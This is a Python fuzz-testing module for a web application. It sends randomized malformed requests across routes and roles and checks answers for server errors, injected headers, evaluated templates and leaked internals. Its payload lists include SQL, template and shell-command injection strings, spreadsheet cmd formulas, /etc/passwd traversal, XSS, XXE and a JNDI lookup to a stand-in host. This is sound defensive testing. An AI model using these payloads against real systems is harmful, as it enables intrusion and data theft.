"""Requests as no page of ours sends them: every address, every role, with what breaks parsers and what attackers try.

The same seed makes the same requests. What an answer may not be stands in `wrong_with`.
"""

import json
import random
import re
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Any
from urllib.parse import quote, unquote_to_bytes, urlencode

from tests.access.routes import ROUTES, Route
from tests.access.stage import PEOPLE, Door, Stage, Who

# Results that only an interpreter gives back: of a template, of a shell, of a database.
COMPUTED = "3703703670"  # 1234567890 * 3
FILE_OF_A_SHELL = "/tmp/paritrana-a-shell-was-here"
INJECTED = "X-Injected"
FORGED = "forged_by_input"

INJECTIONS = (
    "' OR '1'='1", "'; DROP TABLE nomination; --", '" OR ""="', "1) UNION SELECT NULL, NULL --", "\\", "%", "_%", "';",
    "{{ 1234567890 * 3 }}", "${1234567890*3}", "{% print(1234567890*3) %}", "#{1234567890*3}", "<%= 1234567890*3 %>",
    "{0.__class__.__init__.__globals__}", "%(secret_key)s", "%s%n%x", "{", "}}", "%(", "%",
    f'a\r\n{{"event": "{FORGED}", "level": "info"}}', f'x\n{{"event": "{FORGED}"}}', "\x1b[31mred\x1b[0m",
    "a\u2028b\x85c",
    f"a\r\n{INJECTED}: yes\r\n\r\n<b>", f"%0d%0a{INJECTED}:%20yes", f"\u560d\u560a{INJECTED}: yes",
    f"$(touch {FILE_OF_A_SHELL})", f"`touch {FILE_OF_A_SHELL}`", f"| touch {FILE_OF_A_SHELL}",
    f"; touch {FILE_OF_A_SHELL} #",
    f"=cmd|'/c touch {FILE_OF_A_SHELL}'!A1", "@SUM(1+1)*cmd|' /C calc'!A0", "+1-1", "-1+1",
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd", "CON", "~root", ".",
    "..",
    "//elsewhere.test", "//[", "//\uff0f", "https://elsewhere.test/", "javascript:alert(1)", "data:text/html,x",
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "]]>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "&lt;",
)  # fmt: skip
NUMBERS = (
    "-1", "0", "1", "00", "9" * 9, "9" * 10, "2147483648", "9223372036854775808", "9" * 30, "1" + "0" * 4400, "1e5",
    "1e309", "1E-400", "NaN",
    "-Infinity", "inf", "-0", "1_000", "0x10", "1.5", "1,5", "1.000,50", "1,2,3", "٣", "１２", "²", "½", "Ⅷ", " 7 ",
    "+7", "--7", "7-",
    "0," + "0" * 4400 + "1", "1e9999999999",
)  # fmt: skip
MOMENTS = (
    "2026-02-30", "2026-13-01", "0000-00-00", "0001-01-01", "9999-12-31", "9999-12-31T23:59:59", "9999-12-31T23:59",
    "10000-01-01", "2026-03-02T25:61",
    "2026-03-02T10:00+99:00", "2026-03-02T10:00Z", "2026-W10-1", "24:00", "00:00", "9:5", "-1:00", "2026-03-02 10:00",
    "１９９９-01-01", "20260302",
    "0001-01-01T00:00", "1.3.2026",
)  # fmt: skip
TEXTS = (
    "", " ", "\t\r\n", "a", "\x00", "a\x00b", "\ufeff", "\ufffe", "\U0010ffff", "\u202egpj.exe", "e\u0301",
    "e" + "\u0301" * 900, "𝔘𝔫𝔦", "🏴\U000e0067\U000e007f",
    "A" * 300, "a " * 2500, "é" * 70_000, "\x7f\x80\x9f", "null", "true", "None", "undefined", "[]", "{}", "on",
    "İıſK", "\u200b", "ß" * 200, "'", '"',
)  # fmt: skip
TYPED = (*INJECTIONS, *NUMBERS, *MOMENTS, *TEXTS)
SEGMENTS = (
    "..", ".", "%2e%2e%2f", "%00", "%ff%fe", "%ed%a0%80", "a%0d%0ab", "%25", "~", "-1", "0", "9" * 9, "9" * 30, "1.5",
    "%D9%A3", "%F0%9F%8F%B4",
    "A" * 3000, "nowhere", "'", "%27%20OR%201=1", "{{7*7}}", "a;b=c", "a%2Fb", "*", "contoh-2025", "KABKOTA",
    "kabkota ", "N-0000-0000", "P-0000-0000",
    "winners", "csv", "null",
)  # fmt: skip
ASKED = (
    "page", "status", "category", "verifier", "differences", "overdue", "show", "doc", "p", "zoom", "turn", "pane",
    "state", "kind", "item",
    "figure", "corrects", "code", "next", "reason", "add", "offset", "copy", "q", "sort", "lang", "from", "to",
    "cycle", "year", "person", "version",
)  # fmt: skip
BODIES = (
    b"", b"null", b"[]", b"{}", b"1", b'"x"', b"true", b"{", b'{"value"', b"\xff\xfe{}", b"\xef\xbb\xbf{}",
    b'{"value": NaN}', b'{"value": 1e400}',
    b'{"value": -Infinity}', b'{"value": ' + b"9" * 5000 + b"}", b"[" * 100_000, b'{"a":' * 60_000,
    b'{"value": "\\ud800"}', b'{"value": "\\u0000"}',
    b'{"value": "8", "value": "9"}', b'{"value": {"value": {"value": []}}}',
    b'{"value": null, "marks": null, "name": null}', b"\x00" * 50,
    b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>", b"a=b&c", b"%",
    b"a" * 600_000,
    "{\"value\": \"é\"}".encode("utf-16"), b'{"": "", "\\u0000": 1}',
)  # fmt: skip
KEYS = (
    "value", "version", "abstain_note", "panel_note", "feedback", "name", "size", "sha256", "kind", "requirement",
    "marks", "device_at", "reason",
    "indicator", "sheets", "public_key", "id", "sheet", "at", "code", "text", "value_id", "typed", "device", "key",
    "seen", "since",
)  # fmt: skip
THINGS: tuple[Any, ...] = (
    None, True, False, 0, -1, 10**30, 1.5, 1e308, float("nan"), float("inf"), [], {}, [[]], [None], ["a"] * 2000,
    {"a": {"b": {}}}, {"$gt": ""},
    "a" * 70_000,
)  # fmt: skip
TYPES = (
    "application/json", "application/json; charset=utf-99", "application/x-www-form-urlencoded",
    "application/x-www-form-urlencoded; charset=utf-16",
    "multipart/form-data", "multipart/form-data; boundary=", "multipart/form-data; boundary=x",
    'multipart/form-data; boundary="' + "x" * 300 + '"',
    "text/plain", "text/xml", "application/octet-stream", "*/*", ";", "a/b; c", "application/problem+json",
    "\xe9/\xe9", "",
)  # fmt: skip
HEADERS: Mapping[str, Sequence[str]] = {
    "If-Match": ('"x"', "*", '"99999999999999999999"', '"-1"', "", 'W/"1"', '"1", "2"', '"\xe9"', '"1', '"0"'),
    "If-None-Match": ("*", '"x"', "x" * 5000, '""', 'W/"', '"\xe9"'),
    "If-Modified-Since": ("Thu, 99 Foo 2026", "0", "Mon, 02 Mar 99999 00:00:00 GMT", "\xe9"),
    "If-Range": ('"x"', "Mon, 02 Mar 2026 00:00:00 GMT", "\xe9"),
    "Range": ("bytes=0-", "bytes=-1", "bytes=-0", "bytes=9999999999-", "bytes=5-1", "bytes=a-b", "bytes=0-0,2-3,4-5",
    "items=1", "bytes=" + "9" * 5000 + "-", "bytes=--1"),
    "Idempotency-Key": ("", "k", "k" * 300, "\xe9", "'", "a b", "\t", "1" * 65),
    "Accept": ("", "*/*", "application/json", "text/html;q=abc", "a/b;" * 500, "\xe9", "application/json;q=9" * 3),
    "Accept-Language": ("id;q=abc", "*", "id," * 3000, "zz-ZZ", "\xe9", "en;q=nan", "en-" + "x" * 500),
    "Accept-Encoding": ("gzip;q=x", "*;q=0", ""),
    "Content-Encoding": ("gzip", "br", "identity, gzip"),
    "Content-Range": ("bytes 0-1/2", "bytes */*", "x"),
    "X-CSRFToken": ("", "guessed", "\xe9", "x" * 9000),
    "Origin": ("null", "https://elsewhere.test", "http://localhost", "\xe9", "http://[::1"),
    "Referer": ("http://[", "//", "\xe9", "javascript:1", "http://localhost/" + "a" * 5000),
    "Sec-Fetch-Site": ("cross-site", "none", "", "\xe9"),
    "X-Forwarded-For": ("1.2.3.4, x", "::1", "\xe9", "'"),
    "X-Forwarded-Host": ("elsewhere.test",),
    "X-Forwarded-Proto": ("javascript",),
    "X-Forwarded-Prefix": ("/../x",),
    "X-HTTP-Method-Override": ("DELETE", "PUT"),
    "X-Original-URL": ("/system",),
    "Host": ("elsewhere.test", "localhost:99999", "[::1", "localhost:abc", "\xe9", "", "localhost@elsewhere.test"),
    "Authorization": ("Basic YTpi", "Basic \xe9", "Bearer x", "Basic", "Digest a=b"),
    "Cookie": ("sid=", "sid=\xe9", "sid=x; lang=zz", "lang=" + "x" * 3000, "=;=;", 'sid="a',
    "known=x; device=x; sid=" + "A" * 43),
    "User-Agent": (f'x"}}\\n{{"event":"{FORGED}"', "\xe9\x80", "a" * 9000, "${jndi:ldap://elsewhere.test/a}"),
    "X-Request-Id": (f'x"}}{{"event":"{FORGED}"', "\xe9"),
    "Content-Length": ("-1", "x", "9" * 30, "1, 2"),
    "Expect": ("200-maybe",),
    "Transfer-Encoding": ("chunked", "x"),
}  # fmt: skip
MOST_DOORS = 20_000
METHODS = ("GET", "HEAD", "OPTIONS", "POST", "PUT", "PATCH", "DELETE", "TRACE", "PROPFIND", "get", "X" * 30)
# What an answer shows of the inside when somebody forgot to catch an error. The mere names of libraries stand with
# their versions on a page of the administrator; an error names a module of theirs, a file, or a page that explains it.
INSIDE = re.compile(
    rb"Traceback|(sqlalchemy|psycopg2?|sqlite3|werkzeug|jinja2)[./]|sqlalche\.me|site-packages|/paritrana/|"
    rb"OperationalError|root:x:0"
)


class PageForms(HTMLParser):
    """The forms of a page: method, address, and the names of its fields with what a browser would send."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.forms: list[tuple[str, str, list[tuple[str, str]]]] = []
        self.inside = False
        self.select = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = {name: value or "" for name, value in attrs}
        if tag == "form":
            self.inside = True
            self.forms.append((found.get("method", "get"), found.get("action", ""), []))
        if not self.inside:
            return
        fields, name = self.forms[-1][2], found.get("name", "")
        if tag == "select":
            self.select = name
        elif tag == "option" and self.select:
            fields.append((self.select, found.get("value", "")))
        elif tag in {"input", "textarea", "button"} and name and found.get("type") != "file":
            fields.append((name, found.get("value", "")))

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self.inside = False
        elif tag == "select":
            self.select = ""


@dataclass
class Call:
    """One request."""

    who: Who
    route: Route
    method: str
    address: str
    headers: dict[str, str]
    body: bytes

    def __str__(self) -> str:
        shown = {name: value[:80] for name, value in self.headers.items() if name not in {"Cookie", "X-CSRFToken"}}
        return f"{self.who.label}: {self.method} {self.address[:300]} {shown} {self.body[:300]!r}"


@dataclass
class Calls:
    """Makes requests in a world, and learns from the pages that come back which fields there are."""

    stage: Stage
    seed: int
    deep: float = 0.5  # how often a door is chosen that opened before
    forms: dict[tuple[str, str], dict[str, list[tuple[str, str]]]] = field(default_factory=dict)  # by person and rule
    asked: set[str] = field(default_factory=lambda: set(ASKED))
    open: list[tuple[Who, Route]] = field(default_factory=list)
    people: tuple[Who, ...] = tuple(who for who in PEOPLE if not who.stale)

    def __post_init__(self) -> None:
        self.chance = random.Random(self.seed)

    def make(self) -> Call:
        """The next request."""
        who, route = self._place()
        kind = self.chance.random()
        address = self._address(who, route)
        headers = {
            "Accept": "text/html" if self.chance.random() < 0.4 else "application/json",
            "Sec-Fetch-Site": "same-origin",
        }
        door = self.stage.doors[who.name, who.stale]
        method, body = route.method, b""
        if kind < 0.12:
            address = self._elsewhere(address)
        if kind < 0.06:
            method = self.chance.choice(METHODS)
        if (method == "GET" and kind < 0.75) or kind > 0.97:
            address += "?" + self._query()
        if method in {"POST", "PUT", "PATCH", "DELETE"}:
            headers["X-CSRFToken"] = door.token
            headers["Idempotency-Key"] = f"K{self.chance.randrange(10**12):012}"
            if self.chance.random() < 0.5 or route.method == "PUT":
                headers["If-Match"] = self.chance.choice(('"0"', '"1"', '"2"', '"x"'))
            body, headers["Content-Type"] = self._body(who, route, address)
        for _no in range(self.chance.choice((0, 0, 0, 1, 1, 2))):
            name = self.chance.choice(tuple(HEADERS))
            headers[name] = self.chance.choice(HEADERS[name])
        headers.setdefault("Cookie", door.cookie)
        return Call(who, route, method, address, headers, body)

    def _place(self) -> tuple[Who, Route]:
        """Who asks where: at times at a door that opened, or nearly opened, before."""
        if self.open and self.chance.random() < self.deep:
            return self.chance.choice(self.open)
        return self.chance.choice(self.people), self.chance.choice(ROUTES)

    def learn(self, call: Call, answer: Any) -> None:
        """Remember a door that opened, and the forms of a page."""
        if answer.status_code not in {401, 403, 404, 405} and len(self.open) < MOST_DOORS:
            self.open.append((call.who, call.route))
        if answer.status_code not in {200, 422} or answer.mimetype != "text/html" or b"<form" not in answer.data:
            return
        for method, action, fields in PageForms(answer.get_data(as_text=True)).forms:
            if method != "post":
                self.asked |= {name for name, _value in fields}
            elif action:
                self.forms.setdefault((call.who.name, _plain(action)), {})[action] = fields

    def _address(self, who: Who, route: Route) -> str:
        """The address of a route in the world; one that the world has nothing for leads nowhere."""
        try:
            return self.stage.address(who, route)
        except KeyError:
            return re.sub(r"<[^>]+>", "1", route.rule)

    def _typed(self) -> str:
        if self.chance.random() < 0.08:
            return "".join(
                chr(self.chance.choice((9, 10, 13, 32, 34, 39, 0x7F, 0x3000, 0x1F600, *range(33, 127))))
                for _no in range(self.chance.randrange(1, 40))
            )
        return self.chance.choice(TYPED)

    def _elsewhere(self, address: str) -> str:
        """The address with one of its parts changed, one more, or one less."""
        parts = address.split("/")
        place = self.chance.randrange(1, len(parts)) if len(parts) > 1 else 0
        how = self.chance.random()
        if how < 0.7:
            parts[place] = self.chance.choice(SEGMENTS)
        elif how < 0.85:
            parts.insert(place, self.chance.choice(SEGMENTS))
        else:
            parts.append(self.chance.choice(("", ".json", "~", "..")))
        return "/".join(parts) or "/"

    def _query(self) -> str:
        names = sorted(self.asked)
        pairs = [(self.chance.choice(names), self._typed()[:2000]) for _no in range(self.chance.randrange(1, 5))]
        if self.chance.random() < 0.1:
            return self.chance.choice(
                (
                    "%",
                    "=",
                    "&&&",
                    "a",
                    "%00=1",
                    "page=%ff",
                    "page=%ed%a0%80",
                    "page[]=1&page[]=2",
                    "a=" + "b" * 4000,
                    "?" * 50,
                    "page=1&page=2",
                    "a=1;b=2",
                )
            )
        return urlencode(pairs)

    def _body(self, who: Who, route: Route, address: str) -> tuple[bytes, str]:
        known = self.forms.get((who.name, _plain(address)))
        machine = route.rule.startswith("/api/") or "/uploads" in route.rule
        how = self.chance.random()
        if machine and how < 0.75:
            said = {self.chance.choice(KEYS): self._thing() for _no in range(self.chance.randrange(0, 7))}
            if self.chance.random() < 0.6:
                said["value"] = self._typed()
            return json.dumps(said).encode(), "application/json"
        if how < 0.1:
            return self.chance.choice(BODIES), self.chance.choice(TYPES)
        if known and how < 0.95:
            fields = list(self.chance.choice(list(known.values())))
            for _no in range(self.chance.choice((0, 1, 1, 1, 2, 3, len(fields)))):
                place = self.chance.randrange(len(fields)) if fields else 0
                change = self.chance.random()
                if fields and change < 0.85:
                    if fields[place][0] not in {"csrf_token", "idempotency_key"} or self.chance.random() < 0.1:
                        fields[place] = (fields[place][0], self._typed())
                elif fields and change < 0.93:
                    fields.pop(place)
                else:
                    fields.insert(place, (self.chance.choice(KEYS), self._typed()))
        else:
            fields = [(self.chance.choice(KEYS), self._typed()) for _no in range(self.chance.randrange(0, 6))]
        if self.chance.random() < 0.15:
            return self._multipart(fields), "multipart/form-data; boundary=border"
        return urlencode(fields).encode(), "application/x-www-form-urlencoded"

    def _thing(self) -> Any:
        return self._typed() if self.chance.random() < 0.5 else self.chance.choice(THINGS)

    def _multipart(self, fields: Sequence[tuple[str, str]]) -> bytes:
        """The fields as parts, some of them as files with names and types that mean harm; at times cut off."""
        parts = []
        for name, value in fields:
            head = f'Content-Disposition: form-data; name="{quote(name)}"'
            if self.chance.random() < 0.3:
                kind = self.chance.choice(("application/pdf", "x", "text/html"))
                head += f'; filename="{quote(self._typed()[:200], safe=" ")}"\r\nContent-Type: {kind}'
            if self.chance.random() < 0.05:
                head += "\r\nContent-Transfer-Encoding: base64"
            parts.append(f"--border\r\n{head}\r\n\r\n{value}\r\n".encode())
        whole = b"".join(parts) + b"--border--\r\n"
        return whole[: self.chance.randrange(len(whole))] if self.chance.random() < 0.1 else whole


def _plain(address: str) -> str:
    return address.partition("?")[0]


def send(door: Door, call: Call) -> Any:
    """What the application answers."""
    path, _mark, query = call.address.partition("?")
    # The path as it stands: the client would read a host out of one that begins with two strokes.
    environ = {"wsgi.url_scheme": "http", "PATH_INFO": unquote_to_bytes(path).decode("latin-1")}
    return door.client.open(
        "/", method=call.method, query_string=query, headers=list(call.headers.items()), data=call.body,
        environ_overrides=environ,
    )  # fmt: skip


def wrong_with(answer: Any) -> str:
    """What no answer may be: empty for an answer as it should be."""
    if answer.status_code >= 500:
        return f"status {answer.status_code}"
    if INJECTED in answer.headers:
        return "a header of the input's own"
    if COMPUTED.encode() in answer.data:
        return "what was typed was computed"
    if answer.mimetype in {"text/html", "application/json", "application/problem+json"} and (
        found := INSIDE.search(answer.data)
    ):
        return f"the inside: {found[0]!r}"
    return ""


def steps(stage: Stage, calls: int, *, seed: int, deep: float = 0.5, batch: int = 100) -> Iterator[tuple[Call, Any]]:
    """So many requests with their answers, in states drawn by lot; the world begins anew each `batch`."""
    made = Calls(stage, seed, deep)
    for no in range(calls):
        if no % batch == 0:
            stage.enter(made.chance.choice((0, 1, 1, 1, 2, 3, 3, 4, 5, 5, 6, 7, 8, 9)))
        call = made.make()
        with send(stage.doors[call.who.name, call.who.stale], call) as answer:
            answer.get_data()
            made.learn(call, answer)
            yield call, answer
        # What an administrator stopped would refuse whatever comes after it.
        if call.route.rule == "/sign-out" or (call.route.rule == "/system/read-only" and call.method == "POST"):
            stage.enter_again()
